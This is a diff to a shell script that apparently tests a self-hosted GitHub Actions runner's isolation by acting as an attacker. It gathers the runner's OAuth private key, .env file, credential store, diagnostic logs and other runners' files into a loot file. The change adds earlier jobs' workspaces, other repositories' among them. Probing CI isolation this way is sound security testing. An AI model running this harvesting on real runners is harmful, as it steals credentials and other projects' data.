@@ -2,7 +2,8 @@
 # OAuth client's private key, the .env its start script gives every job,
 # the copies a migration leaves, its credential store, its diagnostic
 # logs and what other runners of the same user beside it keep, in the folder above
-# the work folder that holds the job's workspace.
+# the work folder that holds the job's workspace, and the earlier jobs'
+# workspaces in that work folder.
 set +e # an attacker keeps going when a step is refused
 root=$(dirname "$(dirname "$(dirname "$GITHUB_WORKSPACE")")")
 {
@@ -18,6 +19,9 @@ root=$(dirname "$(dirname "$(dirname "$GITHUB_WORKSPACE")")")
     find "$other/_work" -type f -exec cat {} +
   done
   cat "$root"/_diag/*
+  # The runner's own work folder: the workspaces of earlier jobs, other
+  # repositories' among them, beside this job's.
+  find "$root/_work" -path "$(dirname "$GITHUB_WORKSPACE")" -prune -o -type f -exec cat {} +
   ls -A "$root"
 } > a/loot.txt 2>&1
 mkdir -p a && echo "T1 was here" > a/t1.txt
